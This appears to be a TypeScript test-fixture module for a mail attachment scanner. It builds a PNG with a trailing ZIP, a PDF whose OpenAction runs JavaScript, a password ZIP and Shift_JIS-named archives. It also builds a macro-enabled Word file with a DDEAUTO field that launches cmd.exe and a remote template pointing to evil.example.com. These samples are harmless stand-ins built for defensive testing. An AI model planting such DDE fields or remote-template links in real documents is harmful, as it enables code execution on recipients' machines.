/** Test inputs built in code (no binary fixtures checked in) and the path to the shared corpora. */
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { deflateSync } from 'node:zlib';
import { configure, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import Encoding from 'encoding-japanese';
import { strToU8, zipSync } from 'fflate';
import MailComposer from 'nodemailer/lib/mail-composer/index.js';
import sharp from 'sharp';

configure({ useWebWorkers: false });

export const CORPORA = resolve(process.cwd(), '../shared/corpora');

/** Fail loudly when the corpora are missing: a corpus test must never pass by finding nothing. */
export function requireCorpus(sub: string): string {
  const dir = resolve(CORPORA, sub);
  if (!existsSync(dir))
    throw new Error(`corpus directory missing: ${dir} (expected ../shared/corpora relative to the project root)`);
  return dir;
}

export async function compose(opts: Record<string, unknown>): Promise<Buffer> {
  return new MailComposer(opts as never).compile().build();
}

/** A small PNG with EXIF and an appended ZIP after the image data. */
export async function pngWithTrailer(): Promise<Buffer> {
  const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#3366cc' } })
    .png()
    .withMetadata({ exif: { IFD0: { Copyright: 'secret-exif-marker' } } })
    .toBuffer();
  return Buffer.concat([png, Buffer.from(zipSync({ 'evil.exe': strToU8('MZ-not-really') }))]);
}

export async function jpeg(): Promise<Buffer> {
  return sharp({ create: { width: 64, height: 48, channels: 3, background: '#cc3333' } })
    .jpeg()
    .withMetadata({ exif: { IFD0: { Artist: 'exif-artist-marker' } } })
    .toBuffer();
}

/** A one-page PDF with an OpenAction JavaScript, hand written so that no PDF library is needed. */
export function pdfWithJs(text = 'Mamori test'): Buffer {
  const content = `BT /F1 24 Tf 72 720 Td (${text}) Tj ET`;
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 6 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Action /S /JavaScript /JS (app.alert\\("pwned"\\)) >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objs.forEach((o, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

/** A minimal macro-enabled Word document (.docm) with a vbaProject part and a DDE field. */
export function docm(): Buffer {
  const ct = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`;
  const rels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
  const docRels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example.com/t.dotm" TargetMode="External"/></Relationships>`;
  const doc = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>手順書 マクロ付き</w:t></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`;
  return Buffer.from(
    zipSync({
      '[Content_Types].xml': strToU8(ct),
      '_rels/.rels': strToU8(rels),
      'word/document.xml': strToU8(doc),
      'word/_rels/document.xml.rels': strToU8(docRels),
      'word/vbaProject.bin': strToU8('Attribute VB_Name = "evil"'),
    }),
  );
}

/** A password ZIP (PPAP), ZipCrypto or AES. */
export async function ppapZip(password: string, files: Record<string, Uint8Array>, zipCrypto = true): Promise<Buffer> {
  const w = new ZipWriter(new Uint8ArrayWriter(), { password, zipCrypto, encryptionStrength: 3, useWebWorkers: false });
  for (const [name, data] of Object.entries(files)) await w.add(name, new Uint8ArrayReader(data));
  return Buffer.from(await w.close());
}

/** A plain ZIP whose entry names are Shift_JIS without the UTF-8 flag (as Japanese Windows tools write them). */
export function sjisNamedZip(entries: Record<string, Uint8Array>): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, data] of Object.entries(entries)) {
    const nameBytes = Buffer.from(
      Encoding.convert(Encoding.stringToCode(name), { to: 'SJIS', from: 'UNICODE' }) as number[],
    );
    const comp = deflateSync(data, {}).subarray(2, -4); // raw deflate
    const crc = require_crc()(data);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(0, 6);
    h.writeUInt16LE(8, 8);
    h.writeUInt32LE(crc, 14);
    h.writeUInt32LE(comp.length, 18);
    h.writeUInt32LE(data.length, 22);
    h.writeUInt16LE(nameBytes.length, 26);
    local.push(h, nameBytes, comp);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(0, 8);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(crc, 16);
    c.writeUInt32LE(comp.length, 20);
    c.writeUInt32LE(data.length, 24);
    c.writeUInt16LE(nameBytes.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, nameBytes);
    offset += 30 + nameBytes.length + comp.length;
  }
  const cd = Buffer.concat(central);
  const e = Buffer.alloc(22);
  e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(Object.keys(entries).length, 8);
  e.writeUInt16LE(Object.keys(entries).length, 10);
  e.writeUInt32LE(cd.length, 12);
  e.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, cd, e]);
}

import { crc32 } from 'node:zlib';

function require_crc() {
  return (d: Uint8Array) => crc32(d);
}

/** Encode text as ISO-2022-JP bytes (iconv-lite cannot). */
export function jis(text: string): Buffer {
  return Buffer.from(Encoding.convert(Encoding.stringToCode(text), { to: 'JIS', from: 'UNICODE' }) as number[]);
}

export function sjis(text: string): Buffer {
  return Buffer.from(Encoding.convert(Encoding.stringToCode(text), { to: 'SJIS', from: 'UNICODE' }) as number[]);
}

export function eucjp(text: string): Buffer {
  return Buffer.from(Encoding.convert(Encoding.stringToCode(text), { to: 'EUCJP', from: 'UNICODE' }) as number[]);
}

/** A seeded xorshift32 generator in [0, 1): the fuzz tests repeat their mutants from a seed. */
export function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    return (s >>> 0) / 4294967296;
  };
}
